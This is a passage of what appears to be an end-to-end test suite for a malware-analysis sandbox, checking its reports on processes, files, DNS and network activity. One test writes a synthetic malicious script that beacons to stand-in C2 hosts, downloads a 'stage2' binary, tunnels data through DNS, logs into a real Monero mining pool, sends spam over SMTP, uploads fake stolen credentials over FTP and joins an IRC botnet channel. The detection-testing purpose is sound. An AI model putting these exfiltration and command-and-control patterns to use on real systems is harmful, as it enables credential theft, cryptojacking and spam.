// End to end: real samples analysed in the real sandbox (runc, the eBPF probe); the report must
// state what each sample did.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { analyze } from '../src/analyze.js';
import type { Report } from '../src/report/schema.js';
import { assertOneLineError, cli, CLI, ROOT, sampleProcess, tempDir } from './helpers.js';

const sample = (name: string) => join(ROOT, 'test', 'samples', name);

async function run(name: string, args: string[] = [], timeout = 30): Promise<Report> {
  const t = tempDir();
  try {
    const { report } = await analyze({ sample: sample(name), args, outDir: t.path, timeout });
    return report;
  } finally {
    t.cleanup();
  }
}

const proc = (r: Report, exe: string) => r.processes.filter((p) => p.exe === exe);
const file = (r: Report, path: string) => r.files.find((f) => f.path === path);

test('fork/exec chain: the process tree is sample -> sh -> ls with argv, parents and exit codes', async () => {
  const r = await run('fork_exec_chain.sh');
  assert.equal(r.capture.backend, 'ebpf');
  assert.equal(r.capture.lost, 0);
  const root = sampleProcess(r);
  assert.ok(root, 'the sample is the first process');
  assert.match(root.exe, /\/fork_exec_chain\.sh$/);
  assert.ok(root.pid > 1, 'it is not pid 1: the sandbox\'s init is, and is hidden');
  assert.ok(!r.processes.some((p) => p.exe === '/dev/init'), JSON.stringify(r.processes.map((p) => p.exe)));
  const ls = proc(r, '/bin/ls').concat(proc(r, '/usr/bin/ls'));
  assert.equal(ls.length, 1, 'exactly one ls');
  assert.deepEqual(ls[0]?.argv, ['/bin/ls', '-la', '/etc/hostname']);
  const sh = r.processes.find((p) => p.pid === ls[0]?.pid);
  assert.equal(sh?.ppid, root.pid, 'ls is the exec of the sh that the sample forked');
  assert.equal(ls[0]?.exit, 0);
  // the working directory: the sandbox starts the sample in /root; fork and exec keep it
  assert.equal(root.cwd, '/root');
  assert.equal(ls[0]?.cwd, '/root');
  assert.ok(file(r, '/bin/ls')?.ops.includes('exec'));
  assert.ok(file(r, '/bin/sh')?.ops.includes('exec'), 'the forked child exec\'d sh before ls');
  assert.equal(r.analysis.status, 'completed');
  assert.ok(r.syscalls.total > 100 && r.syscalls.counts['execve']! >= 2);
});

test('file operations: created, modified, deleted and renamed files are in files[], dropped[] and deleted[]', async () => {
  const r = await run('file_ops.sh');
  assert.ok(file(r, '/tmp/created.txt')?.ops.includes('create'));
  assert.ok(file(r, '/etc/motd')?.ops.includes('write'));
  assert.ok(file(r, '/etc/issue.net')?.ops.includes('delete'));
  assert.ok(file(r, '/tmp/a.txt')?.ops.includes('rename'));
  assert.deepEqual(file(r, '/tmp/a.txt')?.renamedTo, ['/tmp/renamed.txt']);
  const created = r.dropped.find((d) => d.path === '/tmp/created.txt');
  assert.equal(created?.change, 'created');
  assert.equal(created?.sha256, createHash('sha256').update('created\n').digest('hex'));
  assert.equal(created?.size, 'created\n'.length);
  assert.equal(r.dropped.find((d) => d.path === '/etc/motd')?.change, 'modified');
  assert.ok(r.deleted.includes('/etc/issue.net'));
});

test('network: a connection to a port on the sandbox\'s own loopback is reported with its result', async () => {
  const r = await run('connect_loopback.sh', ['4444']);
  const connects = r.network.filter((n) => n.op === 'connect' && n.address === '127.0.0.1' && n.port === 4444);
  assert.ok(connects.some((c) => c.result === 'ok' || c.result === 'EINPROGRESS'), JSON.stringify(r.network));
  assert.ok(r.network.some((n) => (n.op === 'bind' || n.op === 'listen') && n.port === 4444));
  assert.equal(connects[0]?.proto, 'tcp');
});

test('network: what a UDP socket received names its sender (recvmsg), and a call that asked for no sender names none', async () => {
  const r = await run('udp_recvmsg.sh', ['4445', '4446']);
  const received = r.network.filter((n) => n.op === 'recvmsg');
  assert.deepEqual(received.map((n) => [n.proto, n.address, n.port, n.result, n.count]), [['udp', '127.0.0.1', 4446, 'ok', 1]], JSON.stringify(r.network));
});

test('network: each message of a sendmmsg is reported under its destination, each of a recvmmsg under its sender', async () => {
  const r = await run('udp_mmsg.sh', ['4448', '4449', '4450', '4451']);
  const batch = r.network.filter((n) => n.op === 'sendmmsg' || n.op === 'recvmmsg');
  assert.deepEqual(batch.map((n) => [n.op, n.proto, n.address, n.port, n.result, n.count]).sort(), [
    ['recvmmsg', 'udp', '127.0.0.1', 4450, 'ok', 1], // the second datagram from it came into a message that asked for no sender
    ['recvmmsg', 'udp', '127.0.0.1', 4451, 'ok', 1],
    ['sendmmsg', 'udp', '127.0.0.1', 4448, 'ok', 2],
    ['sendmmsg', 'udp', '127.0.0.1', 4449, 'ok', 1],
  ], JSON.stringify(r.network));
});

test('DNS: the names a sample looks up are answered by the sandbox\'s sinkhole and listed, its connect to the answer names the domain and meets the domain rules (fd.sip.name), and is caught inside the namespace with what it sent (an HTTP request, HTTPS from clients that check certificates and from one that does not; a client that pins a key sends nothing); a replay gives the same', async () => {
  const t = tempDir();
  try {
    const script = join(t.path, 'c2.sh');
    writeFileSync(script, `#!/bin/sh
getent ahostsv4 c2.example.test
RES_OPTIONS=use-vc getent ahostsv4 over-tcp.example.test
for i in 1 2 3 4 5 6 7 8 9 10 11 12; do getent ahostsv4 6c6f6f742d6368756e6b2d6f662d6578$i.t.tunnel.test > /dev/null; done
curl -sk -m 5 -A implant/2.1 -d id=7 -o /dev/null -w 'https: %{http_code}\\n' https://secure.example.test/api/beacon
curl -s -m 5 -o /dev/null https://checked.example.test/ || echo 'checked: refused'
wget -q -T 5 -t 1 -O /dev/null https://wget.example.test/dl/stage2.bin || echo 'wget: refused'
curl -s -m 5 -o /dev/null --pinnedpubkey 'sha256//AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=' https://pinned.example.test/ || echo 'pinned: refused'
python3 -c "
import socket, urllib.request
try: socket.create_connection(('gulf.moneroocean.stream', 443), timeout=3)
except OSError as e: print('connect:', e)
s = socket.create_connection(('203.0.113.7', 5000), timeout=3)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'HELLO bot-7', ('203.0.113.9', 7000))
import smtplib, ssl
try:
  m = smtplib.SMTP('smtp.example.test', 587, timeout=5)
  m.starttls(context=ssl._create_unverified_context())
  m.login('logs@mail.example.test', 'Hunter2!')
  m.sendmail('promo@shop.example.test', ['victim@example.test'], 'Subject: You won\\r\\n\\r\\nclick')
  m.quit()
except Exception as e: print('smtp:', e)
import ftplib, io
try:
  f = ftplib.FTP('ftp.example.test', 'ops', 'ftp-pw', timeout=5)
  f.storbinary('STOR PW_devbox.txt', io.BytesIO(b'chrome: admin / letmein'))
  f.quit()
except Exception as e: print('ftp:', e)
try:
  b = socket.create_connection(('irc.botnet.example.test', 6667), timeout=5)
  b.sendall(b'NICK [x86]a1\\r\\nUSER a1 0 * :a1\\r\\n')
  lines = b.makefile('rb')
  for l in lines:
    if b' 376 ' in l: break
  b.sendall(b'JOIN #cmd k3y\\r\\nQUIT\\r\\n')
  for l in lines:
    if l.startswith(b'ERROR'): break
  b.close()
except Exception as e: print('irc:', e)
try:
  s6 = socket.create_connection(('2001:db8:1::7', 8443), timeout=3)
  s6.sendall(b'\\x00\\x01HELLO6')
  s6.close()
except OSError as e: print('six:', e)
s.sendall(b'{\\"id\\":1,\\"jsonrpc\\":\\"2.0\\",\\"method\\":\\"login\\",\\"params\\":{\\"login\\":\\"4AbC\\",\\"pass\\":\\"x\\",\\"agent\\":\\"XMRig/6.21.0\\"}}\\n')
s.close()
print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', timeout=5).status)
"
`);
    const rec = join(t.path, 'trace.jsonl.gz');
    const { report: r } = await analyze({ sample: script, outDir: join(t.path, 'live'), timeout: 30, record: rec });
    assert.equal(r.capture.lost, 0);
    const a = (name: string) => r.dns?.find((d) => d.name === name && d.type === 'A');
    assert.match(a('c2.example.test')?.answer ?? '', /^198\.1[89]\.\d+\.\d+$/, JSON.stringify(r.dns));
    const pool = a('gulf.moneroocean.stream');
    assert.ok(pool?.answer && pool.answer !== a('c2.example.test')?.answer, 'each name its own address');
    assert.ok(r.dns?.some((d) => d.name === 'gulf.moneroocean.stream' && d.type === 'AAAA' && d.answer === null), 'AAAA: no records');
    const connect = r.network.find((n) => n.op === 'connect' && n.port === 443 && n.address === pool.answer);
    assert.deepEqual(connect && { address: connect.address, domain: connect.domain, result: connect.result }, { address: pool.answer, domain: 'gulf.moneroocean.stream', result: 'EINPROGRESS' }, 'caught inside the namespace (python connects without blocking when it has a timeout)');
    // the HTTP request to the C2 name was caught in the namespace, answered 200, and is listed
    const gate = r.sessions?.find((c) => c.protocol === 'http');
    assert.deepEqual(gate && [gate.domain, gate.address, gate.port, gate.http?.method, gate.http?.path, gate.http?.host], ['c2.example.test', a('c2.example.test')?.answer, 80, 'GET', '/gate.php?id=1', 'c2.example.test'], JSON.stringify(r.sessions));
    assert.deepEqual(r.sessions?.filter((c) => c.domain === 'gulf.moneroocean.stream').map((c) => [c.port, c.protocol, c.bytes]), [[443, 'none', 0]], 'a connection that sent nothing');
    // a mining pool by its name alone (port 443 is no mining port)
    const byName = r.findings.find((f) => f.rule === 'ST-C2-010');
    assert.match(byName?.output ?? '', /domain=gulf\.moneroocean\.stream connection=/, JSON.stringify(r.findings.map((f) => f.rule)));
    assert.ok(!r.findings.some((f) => f.rule === 'ST-C2-002'));
    // what python sent to a hard-coded address on no mining port: Stratum, found in the caught bytes (a rule of source session)
    const stratum = r.findings.find((f) => f.rule === 'ST-C2-012');
    assert.match(stratum?.output ?? '', /connection=\S*->203\.0\.113\.7:5000 .*"method":"login".* process=python3 /, JSON.stringify(r.findings.map((f) => f.output)));
    assert.deepEqual(stratum && [stratum.evidence[0]?.event, r.processes.find((p) => p.pid === stratum.pid)?.argv[0]], ['session', 'python3']);
    assert.ok(r.network.some((n) => n.op === 'connect' && n.address === '192.0.2.53' && n.port === 53), 'the resolver\'s own traffic is listed too');
    // HTTPS: curl -k accepted the sandbox's certificate, so its request was read in the clear; curl without -k refused it
    const tls = (name: string) => r.sessions?.find((c) => c.sni === name);
    const secure = tls('secure.example.test');
    assert.deepEqual(secure && [secure.protocol, secure.domain, secure.port, secure.http?.method, secure.http?.path, secure.http?.userAgent, secure.decrypted !== undefined], ['tls', 'secure.example.test', 443, 'POST', '/api/beacon', 'implant/2.1', true], JSON.stringify(r.sessions));
    // a datagram to a hard-coded address: caught as a UDP flow with its first bytes
    assert.deepEqual(r.sessions?.filter((c) => c.transport === 'udp').map((c) => [c.address, c.port, c.protocol, c.preview]), [['203.0.113.9', 7000, 'other', 'HELLO bot-7']], JSON.stringify(r.sessions));
    // a mail sent with python's smtplib as a stealer sends it: greeted as a mail server, upgraded with
    // STARTTLS (it does not check the certificate), logged in, led through the message, judged
    const mail = r.sessions?.find((c) => c.protocol === 'smtp');
    assert.deepEqual(mail && [mail.domain, mail.port, mail.smtp], ['smtp.example.test', 587, {
      helo: mail?.smtp?.helo ?? '', from: 'promo@shop.example.test', to: ['victim@example.test'], recipients: 1, subject: 'You won',
      auth: { mechanism: 'PLAIN', user: 'logs@mail.example.test', password: 'Hunter2!' }, starttls: true,
    }], JSON.stringify(r.sessions));
    assert.ok((mail?.decrypted?.bytes ?? 0) > 0, 'what followed STARTTLS was read in the clear');
    assert.match(r.findings.find((f) => f.rule === 'ST-C2-016')?.output ?? '', /from=promo@shop\.example\.test to=victim@example\.test recipients=1 subject=You won .*process=python3\)$/);
    assert.match(r.findings.find((f) => f.rule === 'ST-EXF-003')?.output ?? '', /^Mail account login \(user=logs@mail\.example\.test password=Hunter2! mechanism=PLAIN starttls=true .*server=smtp\.example\.test process=python3 /);
    // an FTP upload: the login and file kept by the FTP server, the file's bytes caught on the data connection
    const upload = r.sessions?.find((c) => c.protocol === 'ftp');
    assert.deepEqual(upload && [upload.domain, upload.port, upload.ftp], ['ftp.example.test', 21, { user: 'ops', password: 'ftp-pw', files: [{ command: 'STOR', path: 'PW_devbox.txt' }], uploads: 1, downloads: 0 }], JSON.stringify(r.sessions));
    assert.ok(r.sessions?.some((c) => c.domain === 'ftp.example.test' && c.protocol === 'other' && c.preview === 'chrome: admin / letmein'), JSON.stringify(r.sessions));
    // IPv6 to a hard-coded address is caught too, and judged with the process that connected
    const six = r.sessions?.find((c) => c.address === '2001:db8:1::7');
    assert.deepEqual(six && [six.port, six.protocol, six.preview], [8443, 'other', '\\x00\\x01HELLO6'], JSON.stringify(r.sessions));
    assert.match(r.findings.find((f) => f.rule === 'ST-C2-013' && /2001:db8:1::7/.test(f.output ?? ''))?.output ?? '', /->\[2001:db8:1::7\]:8443 first_bytes=\\x00\\x01HELLO6 process=python3\)$/, JSON.stringify(r.findings.map((f) => f.output)));
    // an IRC bot: welcomed by the catch-all as an IRC server, it joined its channel with the key
    const bot = r.sessions?.find((c) => c.protocol === 'irc');
    assert.deepEqual(bot && [bot.domain, bot.port, bot.irc?.nick, bot.irc?.channels], ['irc.botnet.example.test', 6667, '[x86]a1', [{ name: '#cmd', key: 'k3y' }]], JSON.stringify(r.sessions));
    assert.match(r.findings.find((f) => f.rule === 'ST-C2-019')?.output ?? '', /^IRC session \(nick=\[x86\]a1 user=a1 channels=#cmd k3y .*domain=irc\.botnet\.example\.test process=python3 /);
    assert.match(r.findings.find((f) => f.rule === 'ST-EXF-004')?.output ?? '', /^FTP upload \(files=PW_devbox\.txt uploads=1 user=ops password=ftp-pw server=ftp\.example\.test .*process=python3 /);
    // clients that check certificates against the system's CAs (curl with OpenSSL, wget with GnuTLS)
    // trust the sandbox's authority, which issued one for the very name: read in the clear too; a
    // client that pins its server's key refuses it, and is listed with its server name only
    const checked = tls('checked.example.test');
    assert.deepEqual(checked && [checked.protocol, checked.http?.method, checked.http?.path, checked.decrypted !== undefined], ['tls', 'GET', '/', true], JSON.stringify(r.sessions));
    const wget = tls('wget.example.test');
    assert.deepEqual(wget && [wget.protocol, wget.http?.path, wget.http?.userAgent?.startsWith('Wget/')], ['tls', '/dl/stage2.bin', true], JSON.stringify(r.sessions));
    // (curl compares the pinned key once the handshake is done, so the handshake completed and nothing came through it)
    const pinned = tls('pinned.example.test');
    assert.deepEqual(pinned && [pinned.protocol, pinned.http, pinned.decrypted], ['tls', undefined, { bytes: 0, preview: '' }], JSON.stringify(r.sessions));
    assert.deepEqual(r.dropped.filter((d) => d.path.startsWith('/etc/ssl/')), [], 'the CA bundle the sandbox extended is not the sample\'s change');
    assert.match(r.findings.find((f) => f.rule === 'ST-EXF-002')?.output ?? '', /host=secure\.example\.test uri=\/api\/beacon user_agent=implant\/2\.1 protocol=tls .*process=curl\)$/);
    // names carrying data under one domain (a DNS tunnel), judged from the sinkhole's log (a rule of source dns)
    assert.match(r.findings.find((f) => f.rule === 'ST-C2-018')?.output ?? '', /^DNS tunnel \(domain=tunnel\.test names=12 queries=\d+ longest_label=34 /, JSON.stringify(r.findings.map((f) => f.rule)));
    // glibc's resolver told to ask over TCP (RES_OPTIONS=use-vc) is answered there too
    assert.match(a('over-tcp.example.test')?.answer ?? '', /^198\.1[89]\.\d+\.\d+$/, JSON.stringify(r.dns));
    assert.ok(r.network.some((n) => n.op === 'connect' && n.proto === 'tcp' && n.address === '192.0.2.53' && n.port === 53 && n.result === 'ok'), JSON.stringify(r.network));
    assert.ok(!r.analysis.warnings.some((w) => w.code === 'DNS_UNAVAILABLE'));
    const html = readFileSync(join(t.path, 'live', 'report.html'), 'utf8');
    assert.match(html, /DNS lookups \(\d+\)[\s\S]*gulf\.moneroocean\.stream/);
    const replayed = cli(['replay', rec, '--out', join(t.path, 'replayed')]);
    assert.equal(replayed.code, 0, replayed.stderr);
    const again = JSON.parse(readFileSync(join(t.path, 'replayed', 'report.json'), 'utf8')) as Report;
    assert.deepEqual([again.dns, again.sessions, again.network, again.findings.map((f) => [f.rule, f.output]), again.indicators], [r.dns, r.sessions, r.network, r.findings.map((f) => [f.rule, f.output]), r.indicators]);
    // the indicators gather it: names, the hard-coded endpoints, URLs, accounts
    const ind = r.indicators;
    assert.ok(ind && ['c2.example.test', 'gulf.moneroocean.stream', 'smtp.example.test', 'ftp.example.test'].every((d) => ind.domains.includes(d)), JSON.stringify(ind));
    assert.ok(ind.endpoints.includes('203.0.113.7:5000') && ind.endpoints.includes('203.0.113.9:7000') && ind.endpoints.includes('[2001:db8:1::7]:8443') && !ind.endpoints.some((e) => e.startsWith('198.18.') || e.startsWith('192.0.2.53')), JSON.stringify(ind.endpoints));
    assert.ok(ind.urls.includes('http://c2.example.test/gate.php?id=1') && ind.urls.includes('https://secure.example.test/api/beacon'), JSON.stringify(ind.urls));
    assert.deepEqual(ind.accounts, [{ protocol: 'smtp', user: 'logs@mail.example.test', password: 'Hunter2!' }, { protocol: 'ftp', user: 'ops', password: 'ftp-pw' }, { protocol: 'irc', user: '#cmd', password: 'k3y' }]);
    assert.match(html, /<h2 id="indicators">Indicators<\/h2>[\s\S]*<div class="argv">203\.0\.113\.7:5000<\/div>/);
    assert.match(html, /Connections caught in the sandbox \(13\)[\s\S]*GET \/gate\.php\?id=1/);
    assert.match(html, /POST \/api\/beacon · Host: secure\.example\.test · User-Agent: implant\/2\.1 · body 4 bytes, sha256 [0-9a-f]{64}: id=7<\/span><div class="muted small">server name secure\.example\.test · decrypted \(the sample accepted the sandbox's certificate\)<\/div><\/td><td>\d+ <span class="muted small">\(\d+ in the clear\)/);
    assert.match(html, /<td>smtp<\/td><td><span class="argv">mail from promo@shop\.example\.test to victim@example\.test · Subject: You won · HELO [^<]* · logged in as logs@mail\.example\.test \(AUTH PLAIN, password Hunter2!\)<\/span><div class="muted small">STARTTLS: decrypted/);
    assert.match(html, /server name pinned\.example\.test<\/span><div class="muted small">handshake completed, then nothing sent through it \(a sample that pins its server's key refuses the certificate only then\)/);
  } finally {
    t.cleanup();
  }
});

test('DNS with --dns nxdomain: the lookup fails as a name that does not exist, and is still listed', () => {
  const t = tempDir();
  try {
    const script = join(t.path, 'killswitch.sh');
    writeFileSync(script, '#!/bin/sh\ngetent ahostsv4 iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.test || echo unresolved > /tmp/went-on\n');
    const out = join(t.path, 'out');
    const r = cli(['analyze', script, '--out', out, '--timeout', '20', '--dns', 'nxdomain']);
    assert.equal(r.code, 0, r.stderr);
    const report = JSON.parse(readFileSync(join(out, 'report.json'), 'utf8')) as Report;
    const a = report.dns?.find((d) => d.type === 'A');
    assert.deepEqual(a && [a.name, a.answer, a.rcode], ['iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.test', null, 'NXDOMAIN']);
    assert.ok(report.dropped.some((d) => d.path === '/tmp/went-on'), 'the sample saw the lookup fail');
    assert.equal(cli(['analyze', script, '--out', join(t.path, 'o2'), '--dns', 'none']).code, 2);
  } finally {
    t.cleanup();
  }
});

test('DNS in the rootless sandbox: analyze run by an unprivileged user lists the lookups, names the domain of the connect, catches it and meets the domain rules; python\'s HTTPS with certificate checks is read in the clear there too', () => {
  const t = tempDir();
  try {
    chmodSync(t.path, 0o777); // nobody writes the report there
    const script = join(t.path, 'c2.sh');
    writeFileSync(script, `#!/bin/sh
python3 -c "
import socket
try: socket.create_connection(('gulf.moneroocean.stream', 443), timeout=3)
except OSError as e: print('connect:', e)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'HELLO bot-7', ('203.0.113.9', 7000))
import smtplib
try: smtplib.SMTP('mx.example.test', 25, timeout=5).sendmail('promo@shop.example.test', ['victim@example.test'], 'Subject: You won\\r\\n\\r\\nclick')
except Exception as e: print('smtp:', e)
import urllib.request
print('https:', urllib.request.urlopen('https://panel.example.test/gate?id=9', timeout=5).status)
"
`, { mode: 0o755 });
    const out = join(t.path, 'out');
    const asUser = process.getuid?.() === 0 ? ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups', process.execPath] : [process.execPath];
    const r = spawnSync(asUser[0] as string, [...asUser.slice(1), CLI, 'analyze', script, '--out', out, '--timeout', '20'],
      { encoding: 'utf8', cwd: t.path, env: { ...process.env, HOME: t.path }, timeout: 120_000 });
    assert.equal(r.status, 0, r.stderr);
    const report = JSON.parse(readFileSync(join(out, 'report.json'), 'utf8')) as Report;
    assert.equal(report.analysis.isolation.kind, 'rootless');
    assert.ok(!report.analysis.warnings.some((w) => w.code === 'DNS_UNAVAILABLE'), JSON.stringify(report.analysis.warnings));
    const pool = report.dns?.find((d) => d.name === 'gulf.moneroocean.stream' && d.type === 'A');
    assert.match(pool?.answer ?? '', /^198\.1[89]\.\d+\.\d+$/, JSON.stringify(report.dns));
    const connect = report.network.find((n) => n.op === 'connect' && n.port === 443);
    assert.deepEqual(connect && [connect.address, connect.domain, connect.result], [pool?.answer, 'gulf.moneroocean.stream', 'EINPROGRESS']);
    // caught there too; the namespace's conntrack table is not readable without root, so the port is the connect's (the datagram's: its sendto's)
    assert.deepEqual(report.sessions?.map((c) => [c.domain ?? c.address, c.port, c.transport ?? 'tcp', c.protocol]).sort(),
      [['203.0.113.9', 7000, 'udp', 'other'], ['gulf.moneroocean.stream', 443, 'tcp', 'none'], ['mx.example.test', 25, 'tcp', 'smtp'], ['panel.example.test', 443, 'tcp', 'tls']], JSON.stringify(report.sessions));
    // python's default context checks the certificate against /etc's CA bundle, which (in the
    // sandbox's writable copy of /etc) trusts the sandbox's authority: its request is read in the clear
    const https = report.sessions?.find((c) => c.protocol === 'tls');
    assert.deepEqual(https && [https.sni, https.http?.method, https.http?.path], ['panel.example.test', 'GET', '/gate?id=9'], JSON.stringify(https));
    assert.deepEqual(report.dropped.filter((d) => d.path.startsWith('/etc/ssl/')), []);
    // greeted without knowing the port: SMTP's ports have a listener of their own
    assert.deepEqual(report.sessions?.find((c) => c.protocol === 'smtp')?.smtp?.from, 'promo@shop.example.test');
    assert.match(report.findings.find((f) => f.rule === 'ST-C2-010')?.output ?? '', /domain=gulf\.moneroocean\.stream /, JSON.stringify(report.findings.map((f) => f.rule)));
  } finally {
    t.cleanup();
  }
});

test('credential theft: reading /etc/passwd and the decoy SSH key is reported and flagged', async () => {
  const r = await run('read_secrets.sh');
  assert.ok(file(r, '/etc/passwd')?.ops.includes('read'));
  assert.ok(file(r, '/home/user/.ssh/id_rsa')?.ops.includes('read'));
  const cred = r.findings.filter((f) => f.attack.some((t) => t.startsWith('T1552')));
  assert.ok(cred.length > 0, 'a credential-access finding');
  assert.ok(cred.some((f) => f.evidence.some((e) => Object.values(e.fields).includes('/home/user/.ssh/id_rsa'))), 'evidence names the key');
  assert.notEqual(r.verdict.label, 'benign');
});

test('self-deletion: the sample unlinking its own file is reported', async () => {
  const r = await run('self_delete.sh');
  const self = sampleProcess(r)?.exe;
  assert.ok(self);
  assert.ok(file(r, self)?.ops.includes('delete'), `delete of ${self}`);
  assert.ok(r.deleted.length === 0 || !r.deleted.includes(self), 'the sample was never part of the image');
});

test('a sample that outlives the timeout is killed: the report says so and lists its sleeping children', async () => {
  const r = await run('fork_sleep_forever.sh', [], 3);
  assert.equal(r.analysis.timedOut, true);
  assert.ok(r.analysis.warnings.some((w) => w.code === 'TIMEOUT'));
  assert.ok(r.processes.filter((p) => p.exe.endsWith('/sleep')).length >= 2);
});

test('a sample that forks into the background and exits: its child lives on and what it does is in the report (the sample is not the container\'s pid 1, whose exit would kill every process); the analysis ends with the last process, not at the timeout', async () => {
  const r = await run('daemonize.sh', [], 30);
  const root = sampleProcess(r);
  assert.deepEqual(root && [root.exit, root.exe.endsWith('/daemonize.sh')], [0, true]);
  const cat = r.processes.find((p) => p.exe.endsWith('/cat'));
  assert.ok(cat && root && root.end !== null && cat.start > root.end, `the child ran after the sample exited: ${JSON.stringify(r.processes.map((p) => [p.pid, p.exe, p.start, p.end, p.exit]))}`);
  assert.equal(cat?.exit, 0);
  assert.ok(r.dropped.some((d) => d.path === '/tmp/daemon.out' && d.size === 'alive\n'.length), JSON.stringify(r.dropped));
  assert.deepEqual([r.analysis.status, r.analysis.timedOut, r.analysis.warnings.some((w) => w.code === 'TIMEOUT')], ['completed', false, false]);
});

test('a sample that makes an exabyte sparse file and floods the report with names still gets a complete, bounded report in time', { timeout: 120_000 }, async () => {
  const t0 = Date.now();
  const r = await run('unanalysable.sh', [], 10);
  assert.ok(Date.now() - t0 < 90_000, 'the analysis ended in bounded time');
  assert.equal(r.analysis.status, 'completed');
  assert.equal(r.analysis.timedOut, true);
  const big = r.dropped.find((d) => d.path === '/root/big');
  assert.ok(big && big.sha256 === null && big.size >= 2 ** 50, JSON.stringify(big));
  assert.ok(r.analysis.warnings.some((w) => w.code === 'FILES_UNHASHED'));
  assert.ok(r.analysis.warnings.some((w) => w.code === 'REPORT_LIMITED') && (r.analysis.omitted?.files ?? 0) > 0, JSON.stringify(r.analysis.omitted));
  assert.ok(JSON.stringify(r).length < 40 << 20);
  assert.ok((r.syscalls.counts['rename'] ?? 0) > (r.analysis.omitted?.files ?? 0) / 2, 'every rename is still counted');
});

test('a sample that buries its payload under 20,000 junk files, 64 MiB of junk copies and a sparse file claiming the hashing budget still has it in dropped[] with its sha256 and a whole copy; the warning says where the rest was', { timeout: 120_000 }, async () => {
  const t = tempDir();
  try {
    const { report: r } = await analyze({ sample: sample('bury_payload.sh'), outDir: t.path, timeout: 60 });
    assert.equal(r.analysis.status, 'completed');
    assert.equal(sampleProcess(r)?.exit, 0, 'the sample ran to its end');
    const bytes = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.from('sandtrace buried payload\n')]);
    const payload = r.dropped.find((d) => d.path === '/tmp/payload');
    assert.deepEqual(payload && [payload.change, payload.size, payload.sha256, payload.truncated], ['created', bytes.length, createHash('sha256').update(bytes).digest('hex'), false], JSON.stringify(payload));
    assert.deepEqual(readFileSync(join(t.path, payload?.copy ?? 'none')), bytes, 'copied whole');
    assert.equal(r.dropped.length + r.deleted.length, 20_000);
    const limited = r.analysis.warnings.find((w) => w.code === 'REPORT_LIMITED' && /not listed: /.test(w.message));
    assert.match(limited?.message ?? '', /20,006 changes found, 20,000 listed; not listed: 6 under \/aaa /, JSON.stringify(r.analysis.warnings));
  } finally {
    t.cleanup();
  }
});

test('a sample that floods the capture is frozen to drain it, losing nothing, and gets the frozen time back on its timeout', { timeout: 120_000 }, async () => {
  const T = 5;
  const r = await run('capture_flood.sh', [], T);
  assert.equal(r.capture.lost, 0);
  const paused = r.capture.paused ?? 0;
  assert.ok(paused >= 1, `the flood was frozen (${paused} s): on a machine whose analysis keeps up with it, there is nothing to give back`);
  const root = sampleProcess(r);
  assert.ok(root && root.end !== null, 'the sample was killed at its (extended) timeout');
  // without the time given back it was killed after T seconds, most of them frozen
  assert.ok(root.end - root.start >= T + Math.min(T, paused) / 2, `the sample lived ${root.end - root.start} s with ${paused} s frozen`);
});

test('recording and replay give the same processes, files, dropped and deleted files, network, syscalls and findings', async () => {
  const t = tempDir();
  try {
    const rec = join(t.path, 'trace.jsonl.gz');
    // the dropper reads, writes, drops a cron file and has findings
    const live = await analyze({ sample: join(ROOT, 'examples', 'dropper.sh'), outDir: join(t.path, 'live'), timeout: 30, record: rec });
    assert.ok(live.report.dropped.length > 0 && live.report.findings.length > 0);
    assert.ok(existsSync(rec));
    const r = cli(['replay', rec, '--out', join(t.path, 'replayed')]);
    assert.equal(r.code, 0, r.stderr);
    const again = JSON.parse(readFileSync(join(t.path, 'replayed', 'report.json'), 'utf8')) as Report;
    // the container the processes ran in is the same in the replay (container.id in rule outputs)
    assert.deepEqual(again.findings.map((f) => f.output), live.report.findings.map((f) => f.output));
    const strip = (x: Report) => ({
      p: x.processes, f: x.files, n: x.network, dns: x.dns, sessions: x.sessions, s: x.syscalls, fi: x.findings.map((f) => [f.rule, f.pid, f.evidence.map((e) => e.seq)]), v: x.verdict, sample: x.sample,
      // the copies stay with the live analysis
      d: x.dropped.map(({ copy: _copy, ...d }) => d), del: x.deleted,
    });
    assert.deepEqual(strip(again), strip(live.report));
    assert.ok(again.dropped.every((d) => d.copy === undefined));
    assert.equal(again.capture.lost, live.report.capture.lost);
  } finally {
    t.cleanup();
  }
});

test('a sandbox that cannot start: report.json says why, the verdict is unknown (not benign) and the CLI exits non-zero', () => {
  // a real runc failure: the run dir sits under a directory the container's mapped uid cannot enter
  const t = tempDir();
  try {
    const run = join(t.path, 'private', 'run');
    mkdirSync(run, { recursive: true });
    chmodSync(join(t.path, 'private'), 0o700);
    const out = join(t.path, 'out');
    const r = cli(['analyze', join(ROOT, 'examples', 'dropper.sh'), '--out', out, '--timeout', '10'], { env: { ...process.env, SANDTRACE_RUN: run } });
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stdout, /^verdict: unknown \(score 0\.0\/10\), 0 finding\(s\), 0 process\(es\)/);
    assert.match(r.stderr, /^sandtrace analyze: error: sandbox: runc create failed: .*permission denied.* \[SANDBOX_RUNTIME_FAILED\]$/m);
    const report = JSON.parse(readFileSync(join(out, 'report.json'), 'utf8')) as Report;
    assert.deepEqual(report.verdict, { score: 0, label: 'unknown' });
    assert.equal(report.analysis.status, 'partial');
    assert.deepEqual(report.analysis.errors.map((e) => [e.where, e.code]), [['sandbox', 'SANDBOX_RUNTIME_FAILED']]);
    assert.ok(existsSync(join(out, 'report.html')), 'the HTML report is written too');
  } finally {
    t.cleanup();
  }
});

test('a sample the kernel cannot execute never starts: verdict unknown with the reason, exit 1', () => {
  const t = tempDir();
  try {
    const data = join(t.path, 'blob.bin');
    writeFileSync(data, Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 37 + 11) & 0xff)), { mode: 0o755 });
    const r = cli(['analyze', data, '--out', join(t.path, 'out'), '--timeout', '10']);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stdout, /^verdict: unknown /);
